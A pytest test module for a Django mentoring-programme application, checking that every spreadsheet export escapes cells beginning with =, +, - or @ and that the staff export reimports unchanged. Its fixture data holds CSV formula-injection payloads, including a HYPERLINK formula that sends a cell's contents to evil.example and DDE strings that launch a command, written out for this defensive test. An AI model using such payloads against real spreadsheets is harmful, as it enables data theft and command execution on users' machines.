"""Formula-safe exports everywhere (issue 11, item 2): every spreadsheet the product writes —
the staff page, the admin's export in each format, the questionnaire results, the assessment
round — keeps a typed `=…`, `+…`, `-…`, `@…` as text, and the staff export loads back unchanged.

A new export is added to EXPORTS below; `test_every_spreadsheet_view_is_in_the_table` fails
until it is."""

import csv
import datetime as dt
import io
import re
from decimal import Decimal

import pytest
from django.test import Client
from django.urls import get_resolver, reverse
from django.utils import timezone
from openpyxl import load_workbook

from programme import services
from programme.exceptions import DomainError
from programme.models import StaffMember
from programme.resources import FORMULA_PREFIXES
from programme.services import staff as staff_services
from programme.services import staff_import
from surveys.models import QuestionnaireKind
from surveys.services import invitations, responses
from surveys.tests.conftest import give_consent
from surveys.tests.test_consent import fill_required
from tests.factories import MenteeProfileFactory, StaffMemberFactory
from tests.factories_assessment import AssessmentParameterFactory, AssessmentRoundFactory

pytestmark = pytest.mark.django_db

HYPERLINK = '=HYPERLINK("http://evil.example/?"&A1,"Открыть")'
CMD = "=cmd|' /C calc'!A0"
PLUS = "+7 900 000-00-01"
AT = "@SUM(1+1)*cmd|' /C calc'!A0"
MINUS = "-2+3+cmd|' /C calc'!A0"


@pytest.fixture
def tricky_person(org, curator):
    return StaffMemberFactory(
        organisation=org,
        last_name=HYPERLINK,
        first_name=CMD,
        patronymic="Ивановна",
        education=AT,
        phone=PLUS,
        email="x@example.org",
    )


def _admin_client(user) -> Client:
    services.grant_admin_access(user=user)
    client = Client()
    client.force_login(user, backend="django.contrib.auth.backends.ModelBackend")
    return client


def _staff_page(fmt):
    def export(curator, curator_client, programme, person):
        response = curator_client.get(reverse("programme:staff_export", args=[fmt]))
        assert response.status_code == 200
        return response.content

    return export


def _admin(fmt):
    def export(curator, curator_client, programme, person):
        client = _admin_client(curator)
        url = reverse("admin:programme_staffmember_export")
        form = client.get(url).context["form"]
        format_index = next(i for i, title in form.fields["format"].choices if title == fmt)
        data = {"format": format_index, "resource": "0"}
        data.update({name: "on" for name in form.fields if name.startswith("staffresource_")})
        response = client.post(url, data)
        assert response.status_code == 200, response.content[:500]
        return response.content

    return export


def _results_xlsx(curator, curator_client, programme, person):
    questionnaire = programme.questionnaires.get(kind=QuestionnaireKind.MENTEE_INTAKE)
    give_consent(person)
    created, _ = invitations.invitations_create(
        questionnaire=questionnaire,
        staff=[person],
        by=curator,
        expires_at=timezone.now() + dt.timedelta(days=30),
    )
    version = questionnaire.versions.get()
    texts = {q.pk: MINUS for q in version.questions.filter(kind__in=["short_text", "long_text"])}
    responses.save_answers(invitation=created[0], data=fill_required(version, texts), submit=True)
    response = curator_client.get(
        reverse("surveys:results_xlsx", args=[programme.pk, questionnaire.pk])
    )
    assert response.status_code == 200
    return response.content


def _assessment_xlsx(curator, curator_client, programme, person):
    MenteeProfileFactory(programme=programme, staff=person)
    AssessmentParameterFactory(programme=programme, name="=1+1 умение", applies_to="mentees")
    assessment_round = AssessmentRoundFactory(programme=programme)
    response = curator_client.get(
        reverse("programme:round_export", args=[programme.pk, assessment_round.pk])
    )
    assert response.status_code == 200
    return response.content


def _pairs_overview_xlsx(curator, curator_client, programme, person):
    from tests.factories import MentorProfileFactory
    from tests.factories_pairing import MembershipFactory, PairingFactory

    mentor = MentorProfileFactory(programme=programme, staff=person)
    MembershipFactory(pairing=PairingFactory(mentor=mentor, programme=programme))
    response = curator_client.get(reverse("pairing:overview_xlsx", args=[programme.pk]))
    assert response.status_code == 200
    return response.content


def _monitoring_xlsx(curator, curator_client, programme, person):
    from reports.services.monitoring import monitoring_save

    AssessmentParameterFactory(programme=programme, name="=1+1 умение", applies_to="mentees")
    monitoring_save(programme=programme, by=curator, conclusions=HYPERLINK, strengths=MINUS)
    response = curator_client.get(reverse("reports:monitoring_xlsx", args=[programme.pk]))
    assert response.status_code == 200
    return response.content


def _territory_xlsx(curator, curator_client, programme, person):
    """The coordinator's roll-up: what a person typed there is a kindergarten's name."""
    from programme.models import Organisation, Territory
    from tests.factories import UserFactory

    region = Territory.objects.create(name="=1+1 область", kind="region")
    city = Territory.objects.create(name=MINUS, kind="municipality", parent=region)
    Organisation.objects.filter(pk=programme.organisation_id).update(
        territory=city, short_name=HYPERLINK
    )
    coordinator = Client()
    coordinator.force_login(
        UserFactory(username="coord", organisation=None, role="regional", territory=region)
    )
    response = coordinator.get(reverse("reports:territory_xlsx"))
    assert response.status_code == 200
    return response.content


# (name, url name of the view that writes it, how to get the file, format)
EXPORTS = [
    ("staff page xlsx", "programme:staff_export", _staff_page("xlsx"), "xlsx"),
    ("staff page csv", "programme:staff_export", _staff_page("csv"), "csv"),
    ("admin xlsx", "admin:programme_staffmember_export", _admin("xlsx"), "xlsx"),
    ("admin csv", "admin:programme_staffmember_export", _admin("csv"), "csv"),
    ("admin tsv", "admin:programme_staffmember_export", _admin("tsv"), "tsv"),
    ("results xlsx", "surveys:results_xlsx", _results_xlsx, "xlsx"),
    ("assessment xlsx", "programme:round_export", _assessment_xlsx, "xlsx"),
    ("pairs overview xlsx", "pairing:overview_xlsx", _pairs_overview_xlsx, "xlsx"),
    ("monitoring xlsx", "reports:monitoring_xlsx", _monitoring_xlsx, "xlsx"),
    ("territory roll-up xlsx", "reports:territory_xlsx", _territory_xlsx, "xlsx"),
]
# Views that write a spreadsheet: by the url's name or path ending.
SPREADSHEET = re.compile(r"(xlsx|csv|export)", re.I)
# Spreadsheet-looking routes that are not exports of stored data.
NOT_EXPORTS = {
    "programme:staff_import",  # the upload page
    "programme:staff_import_template",  # fixed headers and one example row
}


def _cells(content: bytes, fmt: str) -> list[tuple[str, object]]:
    """(kind, value) of every cell: kind «f» for a formula cell of a workbook."""
    if fmt == "xlsx":
        book = load_workbook(io.BytesIO(content))
        return [
            (cell.data_type, cell.value)
            for sheet in book.worksheets
            for row in sheet.iter_rows()
            for cell in row
        ]
    text = content.decode("utf-8-sig")
    delimiter = "\t" if fmt == "tsv" else ","
    rows = csv.reader(io.StringIO(text), delimiter=delimiter)
    return [("s", value) for row in rows for value in row]


@pytest.mark.parametrize(("name", "route", "export", "fmt"), EXPORTS, ids=[e[0] for e in EXPORTS])
def test_every_export_keeps_a_formula_as_text(
    curator, curator_client, programme, tricky_person, name, route, export, fmt
):
    content = export(curator, curator_client, programme, tricky_person)
    cells = _cells(content, fmt)

    assert cells, name
    assert not [value for kind, value in cells if kind == "f"], name
    live = [
        value
        for _kind, value in cells
        if isinstance(value, str) and value.startswith(FORMULA_PREFIXES)
    ]
    assert not live, (name, live)
    texts = [value for _kind, value in cells if isinstance(value, str)]
    # What was typed is all there, behind an apostrophe.
    assert any(value.startswith("'=") for value in texts), name


def test_every_spreadsheet_view_is_in_the_table():
    def walk(patterns, prefix=""):
        for p in patterns:
            if hasattr(p, "url_patterns"):
                namespace = getattr(p, "namespace", None)
                yield from walk(p.url_patterns, f"{namespace}:" if namespace else prefix)
            elif p.name:
                yield prefix + p.name, str(p.pattern)

    routes = {
        name
        for name, pattern in walk(get_resolver().url_patterns)
        if SPREADSHEET.search(name) or SPREADSHEET.search(pattern)
    }
    covered = {route for _n, route, _e, _f in EXPORTS}

    assert "admin:programme_staffmember_export" in routes  # the sweep sees the admin's too
    assert routes - NOT_EXPORTS <= covered


@pytest.mark.parametrize("fmt", ["xlsx", "csv"])
def test_the_staff_export_loads_back_unchanged(org, curator, fmt):
    StaffMemberFactory(
        organisation=org,
        last_name="Иванова",
        first_name="Мария",
        patronymic="Петровна",
        position="logoped",
        experience_total=Decimal("2.5"),
        experience_here=Decimal("0.5"),
        category="highest",
        education="=высшее, ОмГПУ",  # escaped on export, unescaped on import
        birth_date=dt.date(1990, 3, 15),
        hired_on=dt.date(2015, 9, 1),
        phone="+7 (913) 000-00-00",
        email="ivanova@example.ru",
    )
    StaffMemberFactory(
        organisation=org,
        last_name="Петров",
        first_name="Илья",
        patronymic="Сергеевич",
        position="instruktor_fk",
        experience_total=Decimal("12"),
        experience_here=Decimal("7.5"),
        birth_date=dt.date(1980, 12, 31),
        phone="-",
    )
    before = list(StaffMember.objects.filter(organisation=org).order_by("pk").values())

    exported = staff_services.staff_export(organisation=org, fmt=fmt)
    file = {"content": exported, "filename": f"back.{fmt}"}
    preview = staff_import.staff_import_preview(organisation=org, **file)

    assert preview.count_error == 0, [r.errors for r in preview.error_rows]
    differing = preview.new_rows + preview.update_rows + preview.skip_rows
    assert preview.count_same == len(before), [(r.name, r.changes) for r in differing]
    with pytest.raises(DomainError, match="без изменений"):  # nothing to load: all the same
        staff_import.staff_import_apply(organisation=org, digest=preview.digest, **file)
    assert list(StaffMember.objects.filter(organisation=org).order_by("pk").values()) == before
